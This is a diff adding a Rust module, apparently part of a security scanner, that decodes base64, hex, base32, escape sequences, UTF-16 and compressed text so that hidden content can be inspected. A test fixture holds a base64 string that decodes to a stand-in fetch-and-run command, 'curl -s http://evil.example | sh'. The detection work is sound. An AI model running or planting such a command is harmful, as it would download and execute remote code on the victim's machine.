@@ -1,0 +1,253 @@
+//! Decoders: what is behind base64, hex, percent signs, escapes, rot13 and compression.
+
+use super::encoding::{base32, base64, from_hex, inflate};
+
+/// What came out of a decoder.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Decoded {
+    /// Where the encoded text begins.
+    pub start: usize,
+    /// Where it ends.
+    pub end: usize,
+    /// The encoding, in words.
+    pub how: &'static str,
+    /// The text.
+    pub text: String,
+}
+
+/// The longest encoded run that is decoded, and how many runs of one text are.
+pub const LONGEST: usize = 1 << 20;
+const MOST: usize = 400;
+
+/// Every run of a text that decodes to readable text.
+pub fn runs(text: &str) -> Vec<Decoded> {
+    let mut found = Vec::new();
+    let bytes = text.as_bytes();
+    let mut at = 0;
+    while at < bytes.len() && found.len() < MOST {
+        let start = at;
+        while bytes.get(at).copied().is_some_and(is_code_letter) {
+            at += 1;
+        }
+        let length = at - start;
+        if (16..=LONGEST).contains(&length)
+            && let Some(run) = text.get(start..at)
+        {
+            found.extend(run_of(run, start));
+        }
+        at += 1;
+    }
+    escaped(text, &mut found);
+    found
+}
+
+fn is_code_letter(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_')
+}
+
+fn run_of(run: &str, start: usize) -> Option<Decoded> {
+    let done = |how, text| Decoded {
+        start,
+        end: start + run.len(),
+        how,
+        text,
+    };
+    let hex = run.strip_prefix("0x").unwrap_or(run);
+    if hex.len().is_multiple_of(2)
+        && hex.len() >= 24
+        && hex.bytes().all(|byte| byte.is_ascii_hexdigit())
+    {
+        return readable(&from_hex(hex)?).map(|text| done("hex", text));
+    }
+    let varied = run
+        .bytes()
+        .any(|byte| byte.is_ascii_digit() || byte.is_ascii_uppercase())
+        && run.bytes().any(|byte| byte.is_ascii_lowercase());
+    if !varied || run.contains('-') && run.contains('+') {
+        return base32(run)
+            .and_then(|bytes| readable(&bytes))
+            .map(|text| done("base32", text));
+    }
+    let bytes = base64(run)?;
+    if let Some(text) = readable(&bytes) {
+        return Some(done("base64", text));
+    }
+    if let Some(text) = utf16(&bytes) {
+        return Some(done("base64 of UTF-16", text));
+    }
+    inflate(&bytes)
+        .and_then(|inner| readable(&inner))
+        .map(|text| done("base64 of compressed text", text))
+}
+
+/// Runs of `\x41`, `\u0041` and `%41` escapes.
+fn escaped(text: &str, found: &mut Vec<Decoded>) {
+    for (mark, size, how) in [
+        ("\\x", 4, "hex escapes"),
+        ("\\u00", 6, "Unicode escapes"),
+        ("%", 3, "percent escapes"),
+    ] {
+        let mut at = 0;
+        while let Some(offset) = text.get(at..).and_then(|tail| tail.find(mark)) {
+            let start = at + offset;
+            let mut end = start;
+            while text.get(end..end + size).is_some_and(|one| {
+                one.starts_with(mark)
+                    && one
+                        .bytes()
+                        .skip(if size == 6 { 2 } else { mark.len() })
+                        .all(|byte| byte.is_ascii_hexdigit())
+            }) {
+                end += size;
+            }
+            if end - start >= size * 8 && found.len() < MOST {
+                let run = text.get(start..end).unwrap_or_default();
+                let plain = if size == 3 {
+                    percent(run)
+                } else {
+                    escapes(run)
+                };
+                found.extend(readable(plain.as_bytes()).map(|text| Decoded {
+                    start,
+                    end,
+                    how,
+                    text,
+                }));
+            }
+            at = end.max(start + mark.len());
+        }
+    }
+}
+
+/// Text with `%41` undone.
+pub fn percent(text: &str) -> String {
+    let mut out = Vec::with_capacity(text.len());
+    let bytes = text.as_bytes();
+    let mut at = 0;
+    while let Some(byte) = bytes.get(at).copied() {
+        let digits = text
+            .get(at + 1..at + 3)
+            .and_then(|pair| u8::from_str_radix(pair, 16).ok());
+        match digits {
+            Some(value) if byte == b'%' => {
+                out.push(value);
+                at += 3;
+            }
+            _ => {
+                out.push(byte);
+                at += 1;
+            }
+        }
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+/// Text with `\x41`, `\101`, `\u0041`, `\n` and their like undone.
+pub fn escapes(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some((before, after)) = rest.split_once('\\') {
+        out.push_str(before);
+        let number = |from: usize, to: usize, radix: u32| {
+            after
+                .get(from..to)
+                .and_then(|digits| u32::from_str_radix(digits, radix).ok())
+                .and_then(char::from_u32)
+        };
+        let mut letters = after.chars();
+        let (letter, used) = match letters.next() {
+            Some('x') => (number(1, 3, 16), 3),
+            Some('u') => (number(1, 5, 16), 5),
+            Some('0'..='7') => (number(0, 3, 8), 3),
+            Some('n') => (Some('\n'), 1),
+            Some('t') => (Some('\t'), 1),
+            Some('r') => (Some('\r'), 1),
+            Some(other) => (Some(other), other.len_utf8()),
+            None => (None, 0),
+        };
+        if let Some((letter, tail)) =
+            letter.and_then(|letter| after.get(used..).map(|tail| (letter, tail)))
+        {
+            out.push(letter);
+            rest = tail;
+        } else {
+            out.push('\\');
+            rest = after;
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+fn utf16(bytes: &[u8]) -> Option<String> {
+    let pairs = bytes.chunks_exact(2);
+    let zeros = bytes
+        .iter()
+        .skip(1)
+        .step_by(2)
+        .filter(|byte| **byte == 0)
+        .count();
+    if bytes.len() < 16 || zeros * 3 < bytes.len() {
+        return None;
+    }
+    let text: String = char::decode_utf16(pairs.map(|pair| match pair {
+        [low, high] => u16::from_le_bytes([*low, *high]),
+        _ => 0,
+    }))
+    .collect::<Result<_, _>>()
+    .ok()?;
+    readable(text.as_bytes())
+}
+
+/// Bytes as text, if they are readable: valid UTF-8, hardly any control characters, some words.
+pub fn readable(bytes: &[u8]) -> Option<String> {
+    if bytes.len() < 8 {
+        return None;
+    }
+    let text = std::str::from_utf8(bytes).ok()?;
+    let odd = text
+        .chars()
+        .filter(|letter| letter.is_control() && !matches!(letter, '\n' | '\t' | '\r'))
+        .count();
+    let plain = text
+        .bytes()
+        .filter(|byte| byte.is_ascii_graphic() || *byte == b' ')
+        .count();
+    (odd == 0 && plain * 10 >= text.len() * 7).then(|| text.to_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::scan::encoding::{base85, rot13};
+
+    #[test]
+    fn each_encoding_is_undone() {
+        assert_eq!(
+            runs("x = 'Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g='")[0].text,
+            "curl -s http://evil.example | sh"
+        );
+        assert_eq!(runs("6375726c202d7320687474703a2f2f612e62")[0].how, "hex");
+        assert_eq!(escapes("\\x63url\\141"), "curla");
+        assert_eq!(percent("%63url"), "curl");
+        assert_eq!(rot13("phey"), "curl");
+        assert_eq!(
+            base85("Xk~0{Zv")
+                .map(|bytes| String::from_utf8(bytes).unwrap())
+                .as_deref(),
+            Some("hello")
+        );
+        assert_eq!(
+            runs("\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x78")[0].text,
+            "curl -s x"
+        );
+    }
+
+    #[test]
+    fn digests_and_identifiers_are_left_alone() {
+        assert!(
+            runs("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855").is_empty()
+        );
+        assert!(runs("AbstractSingletonProxyFactoryBean").is_empty());
+    }
+}
